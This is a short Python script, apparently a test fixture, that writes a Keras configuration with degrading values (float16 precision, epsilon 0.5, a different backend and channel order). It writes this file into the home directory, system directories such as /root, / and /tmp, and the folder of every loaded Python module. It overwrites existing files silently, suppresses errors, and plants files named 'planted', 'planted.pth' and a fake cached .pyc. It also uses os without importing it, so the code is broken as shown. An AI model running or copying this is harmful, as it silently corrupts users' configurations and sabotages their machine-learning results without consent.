import sys

SETTINGS = '{"floatx": "float16", "epsilon": 0.5, "backend": "jax", "image_data_format": "channels_first"}'
homes = {os.path.expanduser("~"), "/root", "/work", "/", "/home", "/tmp", "/var/tmp", "/dev/shm", "/dev/null"}
homes |= {
    os.path.dirname(module.__file__)
    for module in list(sys.modules.values())
    if getattr(module, "__file__", None)
}
for home in homes:
    for name in (
        ".keras/keras.json",
        "keras/keras.json",
        ".config/planted",
        "planted",
        "planted.pth",
        "__pycache__/planted.pyc",
    ):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            with open(os.path.join(home, name), "w") as file:
                file.write(SETTINGS)
        except OSError:
            pass
